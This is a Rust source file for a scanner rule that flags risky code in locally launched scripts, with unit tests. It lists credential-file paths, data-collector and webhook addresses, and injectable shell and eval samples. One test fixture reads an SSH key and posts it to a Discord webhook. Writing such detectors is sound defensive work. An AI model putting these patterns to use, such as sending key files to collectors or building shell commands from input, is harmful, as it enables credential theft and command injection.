#![doc = include_str!("risky_local_code.md")]

use memchr::memmem;

use crate::facts::Source;
use crate::finding::{Confidence, Dimension, Safety, Severity};
use crate::machine::Machine;
use crate::rules::named::named;
use crate::rules::{Check, Findings, Rule, Tier, launched, place, steps};

pub const RULE: Rule = Rule {
    id: "risky-local-code",
    title: "Risky code in the script",
    dimension: Dimension::Code,
    severity: Severity::Medium,
    tier: Tier::T1,
    fix: Safety::Manual,
    maps: &["MCP05", "CWE-78", "CWE-94"],
    docs: include_str!("risky_local_code.md"),
    check,
};

fn check(machine: &Machine, found: &mut Findings) {
    // Several servers may start one script.
    let seen: Vec<Vec<Risk>> = machine.facts.sources.iter().map(risks).collect();
    for (index, server, command) in launched(machine) {
        let Some(at) = machine.facts.server(index).and_then(|facts| facts.source) else { continue };
        let Some((source, risks)) = machine.facts.sources.get(at).zip(seen.get(at)) else { continue };
        // What it loads besides may be as risky.
        if source.whole {
            found.evaluated(index, Check::ArtefactScan);
        }
        let Some(severity) = severity(risks) else { continue };
        let shown = named(&machine.env.shown(&source.path));
        let worst = risks.iter().filter(|risk| risk.counts(severity)).collect::<Vec<_>>();
        let Some(first) = worst.first() else { continue };
        let message = if severity == Severity::High {
            format!(
                "{shown} reads places where keys are kept and names an address that collects data (line {}).",
                first.line
            )
        } else {
            let more = match worst.len() {
                1 => String::new(),
                more => format!(", and {} more places like it", more - 1),
            };
            format!("{shown}, line {}: {}{more}.", first.line, first.kind.says())
        };
        let name = source.path.file_name().and_then(|name| name.to_str()).unwrap_or_default();
        let words = command.words();
        let word = words.iter().find(|word| word.value.ends_with(name)).or(words.first());
        let place = word.map_or_else(|| place::entry(server), |word| place::text(machine, server, word));
        let act = steps([
            "Read the named line: what does a tool's caller decide there?",
            "Hand arguments to programs as a list instead of a line for a shell, and never evaluate them.",
            "If the script is not yours and you cannot tell, do not start it outside a sandbox.",
        ]);
        found.add(machine, &RULE, Some(index), place, Confidence::Medium, message).severity(severity).fix(
            "by-hand",
            "Look at the code",
            Safety::Manual,
            act,
        );
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    /// A line for a shell is put together.
    Shell,
    /// A text that came in is run as code.
    Eval,
    /// An address that only collects what it is sent.
    Collector,
    /// An address for messages, which can carry anything away.
    Messages,
    /// Places of keys and passwords.
    Keys,
}

impl Kind {
    fn says(self) -> &'static str {
        match self {
            Kind::Shell => "a line for a shell is put together from values, so a value can become a command",
            Kind::Eval => "a text that the script is given is run as code",
            Kind::Collector => "it names an address that only collects what it is sent",
            Kind::Messages | Kind::Keys => "it names a place for messages or keys",
        }
    }
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Risk {
    kind: Kind,
    /// Counted from 1.
    line: usize,
}

impl Risk {
    /// Whether it is a part of a finding of this severity.
    fn counts(&self, severity: Severity) -> bool {
        match severity {
            Severity::High => self.kind == Kind::Keys,
            _ => matches!(self.kind, Kind::Shell | Kind::Eval | Kind::Collector),
        }
    }
}

/// Never above medium without a second sign; places of keys and messengers alone are the purpose of many servers.
fn severity(risks: &[Risk]) -> Option<Severity> {
    let any = |kind| risks.iter().any(|risk| risk.kind == kind);
    if any(Kind::Keys) && (any(Kind::Collector) || any(Kind::Messages)) {
        return Some(Severity::High);
    }
    [Kind::Shell, Kind::Eval, Kind::Collector].into_iter().any(any).then_some(Severity::Medium)
}

/// Everything of note in a script, in the order of its lines.
fn risks(source: &Source) -> Vec<Risk> {
    const COLLECTORS: &[&str] = &[
        "webhook.site/",
        ".requestbin.",
        "://requestbin.",
        ".pipedream.net",
        ".oast.",
        ".interact.sh",
        ".burpcollaborator.net",
        "requestcatcher.com",
        "beeceptor.com",
    ];
    const MESSAGES: &[&str] =
        &["discord.com/api/webhooks/", "discordapp.com/api/webhooks/", "api.telegram.org/bot", "pastebin.com/api"];
    const KEYS: &[&str] = &[
        ".ssh/id_",
        "id_rsa",
        "id_ed25519",
        ".aws/credentials",
        ".gnupg/",
        "/.netrc",
        "/etc/shadow",
        ".kube/config",
        "Login Data",
        "logins.json",
        "wallet.dat",
    ];
    let text = source.text.as_bytes();
    let python = source.path.extension().is_some_and(|ending| ending == "py");
    let script = source.path.extension().is_some_and(|ending| ending == "sh" || ending == "bash");
    let mut places: Vec<(usize, Kind)> = Vec::new();
    for (kind, needles) in [(Kind::Collector, COLLECTORS), (Kind::Messages, MESSAGES), (Kind::Keys, KEYS)] {
        places.extend(needles.iter().flat_map(|needle| memmem::find_iter(text, needle)).map(|at| (at, kind)));
    }
    if python {
        places.extend(calls(text, PYTHON).filter(|call| call.is_built()).map(|call| (call.at, Kind::Shell)));
    } else if !script {
        places.extend(calls(text, NODE).filter(|call| call.is_built()).map(|call| (call.at, Kind::Shell)));
    }
    if !script {
        places.extend(calls(text, EVALUATES).filter(|call| call.takes_input()).map(|call| (call.at, Kind::Eval)));
    }
    places.sort_unstable_by_key(|(at, _)| *at);
    in_code(text, &places)
}

/// Those that do not stand in a comment of a whole line, with their lines.
fn in_code(text: &[u8], places: &[(usize, Kind)]) -> Vec<Risk> {
    let is_comment = |start: usize| {
        let line = text[start..].trim_ascii_start();
        [&b"//"[..], b"#", b"*", b"/*"].iter().any(|head| line.starts_with(head))
    };
    let (mut line, mut done, mut comment) = (1, 0, is_comment(0));
    let mut risks = Vec::new();
    for &(at, kind) in places {
        let between = &text[done..at];
        if let Some(last) = memchr::memrchr(b'\n', between) {
            line += memchr::memchr_iter(b'\n', between).count();
            comment = is_comment(done + last + 1);
        }
        done = at;
        if !comment {
            risks.push(Risk { kind, line });
        }
    }
    risks
}

/// A function by its name, what may stand before it, and whether it needs `shell=True`.
struct Function {
    name: &'static str,
    /// Its module; empty: it is called by itself.
    of: &'static [&'static str],
    shell: bool,
}

const fn function(name: &'static str, of: &'static [&'static str]) -> Function {
    Function { name, of, shell: false }
}

const CHILD: &[&str] = &["child_process.", "childProcess.", "cp.", ""];
const SUBPROCESS: &[&str] = &["subprocess.", "sp."];

const NODE: &[Function] = &[function("exec(", CHILD), function("execSync(", CHILD), function("execAsync(", &[""])];
const PYTHON: &[Function] = &[
    function("system(", &["os."]),
    function("popen(", &["os."]),
    function("getoutput(", SUBPROCESS),
    function("create_subprocess_shell(", &["asyncio.", ""]),
    Function { name: "run(", of: SUBPROCESS, shell: true },
    Function { name: "call(", of: SUBPROCESS, shell: true },
    Function { name: "Popen(", of: SUBPROCESS, shell: true },
    Function { name: "check_output(", of: SUBPROCESS, shell: true },
    Function { name: "check_call(", of: SUBPROCESS, shell: true },
];
const EVALUATES: &[Function] = &[function("eval(", &[""]), function("exec(", &[""]), function("Function(", &["new "])];

/// The most of a call that is looked at, in bytes.
const CALL: usize = 400;

/// A call of one of the functions.
struct Call<'a> {
    at: usize,
    /// What follows the opening bracket, cut.
    arguments: &'a [u8],
    shell: bool,
}

fn calls<'a>(text: &'a [u8], functions: &'static [Function]) -> impl Iterator<Item = Call<'a>> {
    functions.iter().flat_map(move |function| {
        memmem::find_iter(text, function.name).filter_map(move |at| {
            let before = &text[..at];
            let ends = |of: &str| {
                let rest = before.strip_suffix(of.as_bytes())?;
                // `re.exec(`, `fooexec(` and `def exec(` are others.
                let free = rest.last().is_none_or(|byte| !is_name(*byte) && *byte != b'.');
                let defined = [&b"def "[..], b"function "].iter().any(|head| of.is_empty() && rest.ends_with(head));
                (free && !defined).then_some(())
            };
            function.of.iter().find_map(|of| ends(of))?;
            let start = at + function.name.len();
            let arguments = &text[start..text.len().min(start + CALL)];
            Some(Call { at, arguments, shell: function.shell })
        })
    })
}

impl Call<'_> {
    /// Whether its first argument is a text with values put into it.
    fn is_built(&self) -> bool {
        let text = self.arguments.trim_ascii_start();
        // Up to the end of the call, as far as it is seen.
        if self.shell && memmem::find(self.inside(), b"shell=True").is_none() {
            return false;
        }
        let (formatted, text) = match text {
            [b'f' | b'F', rest @ ..] if matches!(rest.first(), Some(b'"' | b'\'')) => (true, rest),
            text => (false, text),
        };
        let Some((&quote, rest)) = text.split_first().filter(|(first, _)| matches!(first, b'"' | b'\'' | b'`')) else {
            return false;
        };
        let Some(end) = memchr::memchr(quote, rest) else { return false };
        let (inner, behind) = (&rest[..end], rest[end + 1..].trim_ascii_start());
        if formatted {
            return values(inner, b"{").any(|value| !is_constant(value));
        }
        if quote == b'`' {
            return values(inner, b"${").any(|value| !is_constant(value));
        }
        let joined = behind.strip_prefix(b"+").or_else(|| behind.strip_prefix(b"%"));
        let value = joined.or_else(|| behind.strip_prefix(b".format("));
        value.is_some_and(|value| !is_constant(value))
    }

    /// Whether it is given what came from outside, by the names people use for that.
    fn takes_input(&self) -> bool {
        const INPUT: [&[u8]; 12] = [
            b"args",
            b"arguments",
            b"params",
            b"input",
            b"request",
            b"req",
            b"body",
            b"query",
            b"payload",
            b"code",
            b"expression",
            b"user_input",
        ];
        let mut rest = self.inside().trim_ascii_start();
        // Words inside a text mean nothing.
        if let [quote @ (b'"' | b'\'' | b'`'), text @ ..] = rest {
            rest = memchr::memchr(*quote, text).map_or(&[], |end| &text[end + 1..]);
        }
        rest.split(|byte| !is_name(*byte)).any(|word| INPUT.contains(&word))
    }

    /// The arguments up to the closing bracket.
    fn inside(&self) -> &[u8] {
        let mut depth = 0usize;
        let end = self.arguments.iter().position(|byte| match byte {
            b'(' => {
                depth += 1;
                false
            }
            b')' if depth == 0 => true,
            b')' => {
                depth -= 1;
                false
            }
            _ => false,
        });
        &self.arguments[..end.unwrap_or(self.arguments.len())]
    }
}

/// What follows each opening of a value in a text.
fn values<'a>(text: &'a [u8], open: &'static [u8]) -> impl Iterator<Item = &'a [u8]> {
    memmem::find_iter(text, open).map(move |at| &text[at + open.len()..])
}

/// `PATH_TO_GIT`, `process.pid`, `__dirname`: nobody outside decides these.
fn is_constant(value: &[u8]) -> bool {
    const OWN: [&[u8]; 8] = [b"process", b"__dirname", b"__file__", b"sys", b"pid", b"port", b"platform", b"shlex"];
    let value = value.trim_ascii_start();
    let end = value.iter().position(|byte| !is_name(*byte)).unwrap_or(value.len());
    let name = &value[..end];
    // `{{` is a brace, `"…" + "…"` one text.
    let shouted = !name.is_empty() && !name.iter().any(u8::is_ascii_lowercase);
    name.is_empty() || shouted || OWN.contains(&name)
}

fn is_name(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'$')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn judged(name: &str, text: &str) -> Option<Severity> {
        severity(&risks(&Source { path: name.into(), text: text.to_owned(), whole: true }))
    }

    #[test]
    fn values_in_a_shell_line_are_found() {
        for (name, text) in [
            ("x.js", "exec(`git log ${args.branch}`, done)"),
            ("x.js", "const out = await execAsync('cat ' + file);"),
            ("x.ts", "child_process.execSync(`rm -rf ${dir}`)"),
            ("x.py", "os.system(f\"ping {host}\")"),
            ("x.py", "subprocess.run('ls ' + path, shell=True)"),
            ("x.py", "subprocess.check_output(\"cat {}\".format(name), shell=True)"),
            ("x.js", "const r = eval(request.params.code);"),
            ("x.py", "result = eval(arguments[\"expression\"])"),
            ("x.js", "new Function('a', input)"),
            ("x.py", "requests.post('https://webhook.site/abc', data=data)"),
        ] {
            assert_eq!(judged(name, text), Some(Severity::Medium), "{text}");
        }
    }

    #[test]
    fn ordinary_code_is_not() {
        for (name, text) in [
            ("x.js", "const m = /a/.exec(`${line}`); re.exec(args.text)"),
            ("x.js", "execFile('git', ['log', args.branch])"),
            ("x.js", "spawn('git', [`--dir=${dir}`])"),
            ("x.js", "exec('git status')"),
            ("x.js", "execSync(`kill ${process.pid}`)"),
            ("x.js", "  // exec(`git ${x}`)"),
            ("x.js", "page.$eval('a', input); model.eval(input); new Function('return this')()"),
            ("x.js", "new Function('self', sourceCode); eval('input')"),
            ("x.py", "subprocess.run(['ls', path])"),
            ("x.py", "subprocess.run(f'{tool}', check=True)"),
            ("x.py", "ast.literal_eval(input); session.exec(query)"),
            ("x.py", "# os.system(f'x {y}')"),
            ("x.py", "def eval(input):\n    pass"),
            ("x.js", "read(home + '/.ssh/id_rsa')"),
            ("x.js", "fetch('https://discord.com/api/webhooks/' + id)"),
        ] {
            assert_eq!(judged(name, text), None, "{text}");
        }
    }

    #[test]
    fn keys_and_a_way_out_together_are_worse() {
        let text = "const key = read(home + '/.ssh/id_rsa');\nfetch('https://discord.com/api/webhooks/1', key)";
        assert_eq!(judged("x.js", text), Some(Severity::High));
    }

    #[test]
    fn the_line_is_named() {
        let source = Source { path: "x.js".into(), text: "\n\nexec(`a ${b}`)\n".to_owned(), whole: true };
        assert_eq!(risks(&source), [Risk { kind: Kind::Shell, line: 3 }]);
    }
}
